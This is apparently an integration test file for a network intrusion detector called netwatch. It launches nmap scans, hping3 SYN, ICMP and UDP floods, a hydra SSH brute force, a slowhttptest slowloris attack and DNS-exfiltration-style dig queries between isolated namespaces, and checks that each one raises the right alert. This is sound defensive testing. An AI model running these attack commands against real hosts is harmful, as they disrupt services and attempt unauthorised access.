// Real attack tools between two namespaces while `netwatch capture` runs: each attack must raise the right
// alert, naming the attacker, within 10 s of starting; benign traffic must raise none; and a tcpdump
// recording of the same traffic, analysed afterwards, must give the same alerts.

import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync, type ChildProcess } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { createHash } from 'node:crypto';
import { join } from 'node:path';
import type { EveAlert } from '../../src/alert/eve-alert.js';
import { CLI, CORPUS } from '../support/corpus.js';
import { createNetnsPair, stopGenerator, waitForExit, waitForStderr, type NetnsPair } from '../support/netns.js';
import { startServices, waitForPort, type Services } from '../support/live-services.js';

let net: NetnsPair;
let services: Services;
const children: ChildProcess[] = [];
const dir = mkdtempSync(join(tmpdir(), 'nw-livedet-'));
let runNo = 0;

before(async () => {
  net = createNetnsPair('ld');
  // Replies to UDP probes are not rate-limited in the sensor namespace, as on a busy server.
  net.exec(net.nsA, ['sysctl', '-q', '-w', 'net.ipv4.icmp_ratelimit=0']);
  services = startServices(net, children);
  await waitForPort(net, net.nsB, net.ipA, 22, 15_000);
  await waitForPort(net, net.nsB, net.ipA, 80, 15_000);
});

after(() => {
  services?.stop();
  for (const c of children) { stopGenerator(c); c.kill('SIGKILL'); }
  net?.destroy();
});

function readAlerts(path: string): EveAlert[] {
  if (!existsSync(path)) return [];
  return readFileSync(path, 'utf8').split('\n').filter(Boolean).map((l) => JSON.parse(l) as EveAlert);
}

interface Capture {
  alertLog: string;
  stop(): Promise<{ code: number | null; stdout: string; stderr: string }>;
}

async function startCapture(extra: string[] = []): Promise<Capture> {
  const alertLog = join(dir, `alerts-${++runNo}.log`);
  const child = net.spawn(net.nsA, [process.execPath, CLI, 'capture', '-i', net.ifA, '-q', '--summary', 'json', '--alert-log', alertLog, ...extra]);
  const exited = waitForExit(child, 180_000);
  await waitForStderr(child, /capturing on/, 20_000);
  return {
    alertLog,
    stop: async () => { child.kill('SIGINT'); return exited; },
  };
}

/** Polls the alert log until an alert matches; resolves with it and how long it took from `since`. */
async function waitForAlert(path: string, match: (a: EveAlert) => boolean, since: number, timeoutMs: number): Promise<{ alert: EveAlert; ms: number }> {
  for (;;) {
    const a = readAlerts(path).find(match);
    if (a) return { alert: a, ms: Date.now() - since };
    if (Date.now() - since > timeoutMs) {
      throw new Error(`no matching alert within ${timeoutMs} ms; log has: ${readAlerts(path).map((x) => x.alert.signature).join(' | ') || 'nothing'}`);
    }
    await new Promise((r) => setTimeout(r, 100));
  }
}

/** Starts a bounded traffic generator in the attacker namespace without waiting for it. */
function attack(cmd: string[], timeoutSec: number): ChildProcess {
  const c = net.generate(net.nsB, cmd, timeoutSec, dir);
  children.push(c);
  return c;
}

const done = (c: ChildProcess) => new Promise<void>((r) => { if (c.exitCode !== null || c.signalCode !== null) r(); else c.on('exit', () => r()); });

interface Case {
  name: string;
  cmd: () => string[];
  seconds: number;
  detector: string;
  sid: number;
  extra?: (a: EveAlert) => void;
  /** Let the tool run to its end, then check the run's incident of the detector (from the summary). */
  incident?: (i: { peak_detail: string; alerts: number }) => void;
}

const ATTACKS: Case[] = [
  { name: 'nmap SYN scan', cmd: () => ['nmap', '-n', '-Pn', '-sS', '-p', '1-1000', '--max-retries', '0', '-T4', '--host-timeout', '30s', net.ipA], seconds: 40, detector: 'port_scan', sid: 9100101,
    // The victim listens on 22 (sshd) and 80 (HTTP) only: no other port may be named open.
    extra: (a) => assert.ok((a.netwatch.evidence.open_ports as number[]).every((p) => p === 22 || p === 80), JSON.stringify(a.netwatch.evidence)) },
  { name: 'nmap connect scan', cmd: () => ['nmap', '-n', '-Pn', '-sT', '-p', '1-1000', '--max-retries', '0', '-T4', '--host-timeout', '30s', net.ipA], seconds: 40, detector: 'port_scan', sid: 9100102 },
  { name: 'nmap FIN scan', cmd: () => ['nmap', '-n', '-Pn', '-sF', '-p', '1-300', '--max-retries', '0', '-T4', '--host-timeout', '30s', net.ipA], seconds: 40, detector: 'port_scan', sid: 9100103 },
  { name: 'nmap NULL scan', cmd: () => ['nmap', '-n', '-Pn', '-sN', '-p', '1-300', '--max-retries', '0', '-T4', '--host-timeout', '30s', net.ipA], seconds: 40, detector: 'port_scan', sid: 9100104 },
  { name: 'nmap Xmas scan', cmd: () => ['nmap', '-n', '-Pn', '-sX', '-p', '1-300', '--max-retries', '0', '-T4', '--host-timeout', '30s', net.ipA], seconds: 40, detector: 'port_scan', sid: 9100105 },
  { name: 'nmap ACK scan', cmd: () => ['nmap', '-n', '-Pn', '-sA', '-p', '1-300', '--max-retries', '0', '-T4', '--host-timeout', '30s', net.ipA], seconds: 40, detector: 'port_scan', sid: 9100106 },
  { name: 'nmap UDP scan', cmd: () => ['nmap', '-n', '-Pn', '-sU', '-p', '1-300', '--max-retries', '0', '-T5', '--host-timeout', '30s', net.ipA], seconds: 40, detector: 'port_scan', sid: 9100107 },
  { name: 'nmap ping sweep', cmd: () => ['nmap', '-n', '-sn', '--max-retries', '0', '--host-timeout', '10s', `${net.ipA.split('.').slice(0, 3).join('.')}.0/24`], seconds: 30, detector: 'host_sweep', sid: 9100203,
    // nmap ARP-probes the 255 other addresses of the /24 within a second: the incident must have the hosts the sweep
    // reached, not the 30 it had when the alert was first raised (the gate refuses raises within a second).
    incident: (i) => assert.ok(Number(/\(about (\d+) hosts\)$/.exec(i.peak_detail)?.[1]) >= 240, i.peak_detail) },
  { name: 'hping3 SYN flood', cmd: () => ['hping3', '-q', '-S', '-p', '8081', '-i', 'u200', '-c', '5000', net.ipA], seconds: 20, detector: 'syn_flood', sid: 9100301 },
  { name: 'hping3 ICMP flood', cmd: () => ['hping3', '-q', '-1', '-i', 'u500', '-c', '3000', net.ipA], seconds: 20, detector: 'icmp_flood', sid: 9100401 },
  { name: 'hping3 UDP flood', cmd: () => ['hping3', '-q', '-2', '-p', '9999', '-i', 'u100', '-c', '12000', net.ipA], seconds: 20, detector: 'udp_flood', sid: 9100501 },
  {
    name: 'dig exfiltrating data in long random subdomains',
    cmd: () => ['dig', `@${net.ipA}`, '-f', join(dir, 'exfil-names.txt'), '+tries=1', '+time=1'], seconds: 30,
    detector: 'dns_tunnel', sid: 9100901,
    extra: (a) => assert.equal(a.netwatch.evidence.domain, 'example.com'),
  },
  {
    name: 'hydra against sshd',
    cmd: () => ['hydra', '-l', 'admin', '-P', join(dir, 'passwords.txt'), '-t', '16', '-I', `ssh://${net.ipA}`], seconds: 30,
    detector: 'brute_force', sid: 9100701, extra: (a) => assert.equal(a.dest_port, 22),
  },
  {
    name: 'slowhttptest against the HTTP server',
    cmd: () => ['slowhttptest', '-c', '120', '-H', '-i', '5', '-r', '60', '-l', '20', '-x', '10', '-p', '3', '-u', `http://${net.ipA}/`], seconds: 30,
    detector: 'slowloris', sid: 9100801, extra: (a) => assert.equal(a.dest_port, 80),
  },
];

for (const c of ATTACKS) {
  test(`${c.name} raises ${c.detector} naming the attacker within 10 s`, { timeout: 120_000 }, async () => {
    writeFileSync(join(dir, 'passwords.txt'), Array.from({ length: 40 }, (_, i) => `wrong-password-${i}`).join('\n') + '\n');
    // 60 queries whose first label carries 40 hex digits of "data", as DNS exfiltration tools send.
    writeFileSync(join(dir, 'exfil-names.txt'), Array.from({ length: 60 }, (_, i) =>
      `${createHash('sha256').update(`chunk-${i}`).digest('hex').slice(0, 40)}.${i}.exfil.example.com TXT`).join('\n') + '\n');
    const cap = await startCapture();
    const started = Date.now();
    const gen = attack(c.cmd(), c.seconds);
    try {
      const { alert, ms } = await waitForAlert(cap.alertLog, (a) => a.netwatch.detector === c.detector, started, 10_000);
      assert.equal(alert.alert.signature_id, c.sid, alert.alert.signature);
      assert.equal(alert.src_ip, net.ipB, alert.alert.signature);
      // A sweep's alert names the last host probed; every other alert names the victim.
      if (c.detector === 'host_sweep') assert.ok((alert.netwatch.evidence.distinct_hosts as number) >= 30);
      else assert.equal(alert.dest_ip, net.ipA);
      assert.ok(ms <= 10_000, `${ms} ms`);
      c.extra?.(alert);
    } finally {
      if (c.incident === undefined) stopGenerator(gen);
      await done(gen);
      const res = await cap.stop();
      assert.equal(res.code, 0, res.stderr);
      if (c.incident !== undefined) {
        const summary = JSON.parse(res.stdout) as { detection: { incidents: { detector: string; peak_detail: string; alerts: number }[] } };
        const inc = summary.detection.incidents.find((i) => i.detector === c.detector);
        assert.ok(inc, res.stdout);
        c.incident(inc);
      }
    }
  });
}

test('benign traffic (HTTP, DNS, SSH logins, ping, a bounded iperf3 transfer) raises no alert', { timeout: 180_000 }, async () => {
  const cap = await startCapture();
  const server = net.spawn(net.nsA, ['iperf3', '-s', '-B', net.ipA], true);
  children.push(server);
  await waitForPort(net, net.nsB, net.ipA, 5201, 10_000);
  for (let i = 0; i < 10; i++) net.exec(net.nsB, ['curl', '-s', '-o', '/dev/null', '--max-time', '5', `http://${net.ipA}/index.html`]);
  for (const name of ['www.example.com', 'mail.example.org', 'api.example.net', 'www.example.com']) {
    net.exec(net.nsB, ['dig', `@${net.ipA}`, '+tries=1', '+time=2', name, 'A'], 10_000);
  }
  for (let i = 0; i < 3; i++) {
    net.exec(net.nsB, ['ssh', '-i', services.sshKey, '-o', 'StrictHostKeyChecking=no', '-o', 'UserKnownHostsFile=/dev/null',
      '-o', 'BatchMode=yes', '-o', 'ConnectTimeout=5', `root@${net.ipA}`, 'true'], 20_000);
  }
  net.exec(net.nsB, ['ping', '-c', '5', '-i', '0.2', '-W', '1', net.ipA]);
  net.exec(net.nsB, ['iperf3', '-c', net.ipA, '-t', '3', '-b', '200M'], 20_000);
  await new Promise((r) => setTimeout(r, 1500));
  const res = await cap.stop();
  assert.equal(res.code, 0, res.stderr);
  const summary = JSON.parse(res.stdout) as { packets: number; detection: { alertsRaised: number; flows: { created: number } } };
  assert.ok(summary.packets > 1000, `only ${summary.packets} packets captured`);
  assert.ok(summary.detection.flows.created >= 20);
  assert.deepEqual(readAlerts(cap.alertLog).map((a) => a.alert.signature), []);
  assert.equal(summary.detection.alertsRaised, 0);
  server.kill('SIGKILL');
});

test('a live alert and its incident are in the database the moment it is raised, before the capture ends', { timeout: 120_000 }, async () => {
  const dbPath = join(dir, 'live.db');
  const cap = await startCapture(['--db', dbPath]);
  const started = Date.now();
  const gen = attack(['hping3', '-q', '-S', '-p', '8083', '-i', 'u200', '-c', '5000', net.ipA], 20);
  try {
    const { alert } = await waitForAlert(cap.alertLog, (a) => a.netwatch.detector === 'syn_flood', started, 10_000);
    // The capture is still running: the row must already be committed and readable.
    const q = spawnSync(CLI, ['alerts', '--db', dbPath, '--detector', 'syn_flood', '--format', 'json'], { encoding: 'utf8' });
    assert.equal(q.status, 0, q.stderr);
    const rows = q.stdout.split('\n').filter(Boolean).map((l) => JSON.parse(l) as EveAlert);
    assert.ok(rows.some((r) => r.timestamp === alert.timestamp && r.src_ip === net.ipB), q.stdout);
    // Its incident too, so a dashboard can show and acknowledge it while the capture runs.
    const live = spawnSync(CLI, ['incidents', '--db', dbPath, '--format', 'json'], { encoding: 'utf8' });
    assert.equal(live.status, 0, live.stderr);
    assert.match(live.stdout, new RegExp(`"detector":"syn_flood".*"src_ip":"${net.ipB.replace(/\./g, '\\.')}"`));
  } finally {
    stopGenerator(gen);
    await done(gen);
    const res = await cap.stop();
    assert.equal(res.code, 0, res.stderr);
  }
  const inc = spawnSync(CLI, ['incidents', '--db', dbPath, '--format', 'json'], { encoding: 'utf8' });
  assert.match(inc.stdout, /"detector":"syn_flood"/);
});

test('live and offline agree: tcpdump records the same attacks, analyze gives the same alert set', { timeout: 180_000 }, async () => {
  const pcap = join(dir, 'parity.pcap');
  const dump = net.spawn(net.nsA, ['tcpdump', '-i', net.ifA, '-w', pcap, '-U', '--immediate-mode', '-s', '0']);
  children.push(dump);
  const dumpExit = waitForExit(dump, 180_000);
  await waitForStderr(dump, /listening on/, 20_000);
  const cap = await startCapture();
  const scan = attack(['nmap', '-n', '-Pn', '-sS', '-p', '1-1000', '--max-retries', '0', '-T4', '--host-timeout', '30s', net.ipA], 40);
  await done(scan);
  const flood = attack(['hping3', '-q', '-S', '-p', '8082', '-i', 'u200', '-c', '4000', net.ipA], 20);
  await done(flood);
  await new Promise((r) => setTimeout(r, 1500));
  const res = await cap.stop();
  assert.equal(res.code, 0, res.stderr);
  dump.kill('SIGINT');
  await dumpExit;
  const live = readAlerts(cap.alertLog);
  const offline = spawnSync(CLI, ['analyze', pcap, '--alerts', join(dir, 'parity-offline.json'), '--summary', 'none', '-q'], { encoding: 'utf8' });
  assert.equal(offline.status, 0, offline.stderr);
  const off = readAlerts(join(dir, 'parity-offline.json'));
  // The port a flood aims at is part of the attack; a port scan's alert names the probe it crossed the
  // threshold on, which moves when the live capture and tcpdump did not see exactly the same packets (a
  // packet dropped by either under a loaded CI run: live named port 869, tcpdump's file 291).
  const key = (a: EveAlert) => `${a.alert.signature_id} ${a.src_ip} ${a.dest_ip} ${a.netwatch.detector === 'port_scan' ? '' : a.dest_port ?? ''}`;
  assert.ok(live.length >= 2, live.map((a) => a.alert.signature).join(' | '));
  assert.deepEqual([...new Set(off.map(key))].sort(), [...new Set(live.map(key))].sort());
});

test('capture --model scores live host windows: an nmap scan raises an explained anomaly alert naming the scanner', { timeout: 120_000 }, async () => {
  const model = join(dir, 'live-model.json');
  const benign = ['pcapplusplus_tls2.pcap', 'pcapplusplus_example_web.pcap', 'pcapplusplus_http-packets.pcap'].map((f) => join(CORPUS, 'benign', f));
  const t = spawnSync(CLI, ['train', ...benign, '--model', model, '--window', '2s', '--contamination', '0.05'], { encoding: 'utf8' });
  assert.equal(t.status, 0, t.stderr);
  const cap = await startCapture(['--model', model]);
  const started = Date.now();
  const scan = attack(['nmap', '-n', '-Pn', '-sS', '-p', '1-1000', '--max-retries', '0', '-T4', '--host-timeout', '30s', net.ipA], 40);
  try {
    // The scan's window closes when packet time enters the next 2 s window: keep a little traffic flowing.
    const ping = attack(['ping', '-c', '20', '-i', '0.5', net.ipA], 15);
    const { alert } = await waitForAlert(cap.alertLog, (a) => a.netwatch.detector === 'anomaly' && a.src_ip === net.ipB, started, 15_000);
    stopGenerator(ping);
    assert.equal(alert.alert.signature_id, 9101401);
    // A scanner sends a probe and gets an RST back for each port: sender or receiver by a few packets.
    const ev = alert.netwatch.evidence as { top_features: { feature: string; mads: number }[]; role: string };
    assert.ok(ev.role === 'sender' || ev.role === 'receiver');
    assert.equal(ev.top_features.length, 3);
    // Each reason is a value against the baseline: a count of MADs, or (a baseline nearly always at its
    // median, like SYNs sent) the median named as the value of nearly every window.
    assert.match(alert.alert.signature, /unusual traffic: .+ \(baseline median [\d.]+, (\d+(\.\d)? MADs (above|below)|the value of nearly every window)\)/);
  } finally {
    stopGenerator(scan);
    await done(scan);
    const res = await cap.stop();
    assert.equal(res.code, 0, res.stderr);
    assert.match(res.stdout, /"model":\{"path":"[^"]*live-model\.json","type":"isolation-forest"/);
  }
});

test('a flow to an address listed in a threat-intelligence feed raises intel live, on first contact', { timeout: 60_000 }, async () => {
  writeFileSync(join(dir, 'drop.txt'), `; Spamhaus DROP sample\n${net.ipA.split('.').slice(0, 3).join('.')}.0/24 ; SBL999\n`);
  const cfg = join(dir, 'intel.json');
  writeFileSync(cfg, JSON.stringify({ intel: { feeds: [{ path: 'drop.txt', format: 'spamhaus', name: 'drop' }] } }));
  const cap = await startCapture(['--config', cfg]);
  const started = Date.now();
  try {
    net.exec(net.nsB, ['curl', '-s', '-o', '/dev/null', '--max-time', '5', `http://${net.ipA}/index.html`]);
    const { alert, ms } = await waitForAlert(cap.alertLog, (a) => a.netwatch.detector === 'intel', started, 10_000);
    assert.equal(alert.src_ip, net.ipB);
    assert.equal(alert.dest_ip, net.ipA);
    assert.equal(alert.dest_port, 80);
    assert.equal(alert.alert.signature_id, 9101501);
    assert.equal(alert.netwatch.evidence.reference, 'SBL999');
    assert.equal(alert.netwatch.evidence.matched, 'destination');
    assert.ok(ms < 10_000);
  } finally {
    const res = await cap.stop();
    assert.equal(res.code, 0, res.stderr);
  }
});

test('nmap -oX between namespaces, imported as assets: a new listener and an unknown port raise asset_service', { timeout: 120_000 }, async () => {
  const xml = join(dir, 'scan.xml');
  const db = join(dir, 'assets.db');
  net.exec(net.nsB, ['timeout', '-s', 'KILL', '60', 'nmap', '-n', '-Pn', '-sT', '-p', '1-1000', '--max-retries', '1', '-T4', '-oX', xml, net.ipA], 70_000);
  const imp = spawnSync(CLI, ['assets', 'import', xml, '--db', db], { encoding: 'utf8' });
  assert.equal(imp.status, 0, imp.stderr);
  assert.match(imp.stdout, /scan\.xml: 1 hosts, \d+ ports \(2 open\) imported/);
  const list = spawnSync(CLI, ['assets', '--db', db, '--format', 'json'], { encoding: 'utf8' });
  assert.equal(list.status, 0, list.stderr);
  const rows = list.stdout.trim().split('\n').map((l) => JSON.parse(l) as { address: string; open: string });
  assert.deepEqual(rows.map((r) => [r.address, r.open]), [[net.ipA, 'tcp/22 ssh, tcp/80 http']]);

  const cap = await startCapture(['--db', db]);
  const started = Date.now();
  const listener = net.spawn(net.nsA, ['python3', '-m', 'http.server', '8088', '--bind', net.ipA, '--directory', dir], true);
  children.push(listener);
  try {
    await waitForPort(net, net.nsB, net.ipA, 8088, 10_000);
    net.exec(net.nsB, ['curl', '-s', '-o', '/dev/null', '--max-time', '5', `http://${net.ipA}/index.html`]);
    net.exec(net.nsB, ['curl', '-s', '-o', '/dev/null', '--max-time', '5', `http://${net.ipA}:8088/`]);
    const { alert } = await waitForAlert(cap.alertLog, (a) => a.netwatch.detector === 'asset_service' && a.alert.signature_id === 9101602, started, 10_000);
    assert.equal(alert.src_ip, net.ipA);
    assert.equal(alert.src_port, 8088);
    assert.deepEqual(alert.netwatch.evidence.known_services, ['tcp/22', 'tcp/80']);
    assert.match(alert.alert.signature, new RegExp(`${net.ipA.replace(/\./g, '\\.')} answered on tcp/8088, which it did not offer at the scan`));
    // The attempt on 8088 (not in the scan) is one incident per client and server; a later attempt on
    // 9999 folds into it rather than raising again.
    net.exec(net.nsB, ['bash', '-c', `exec 3<>/dev/tcp/${net.ipA}/9999 || true`]);
    const { alert: attempt } = await waitForAlert(cap.alertLog, (a) => a.alert.signature_id === 9101601, started, 10_000);
    assert.equal(attempt.src_ip, net.ipB);
    assert.equal(attempt.dest_ip, net.ipA);
    assert.equal(attempt.dest_port, 8088);
  } finally {
    listener.kill('SIGKILL');
    const res = await cap.stop();
    assert.equal(res.code, 0, res.stderr);
  }
  // Port 80 was in the scan: no alert names it; 9999 folded into the client's incident.
  const logged = readAlerts(cap.alertLog).filter((a) => a.netwatch.detector === 'asset_service');
  assert.equal(logged.filter((a) => a.alert.signature_id === 9101601).length, 1);
  assert.ok(!logged.some((a) => a.dest_port === 80 || a.src_port === 80), logged.map((a) => a.alert.signature).join(' | '));
});
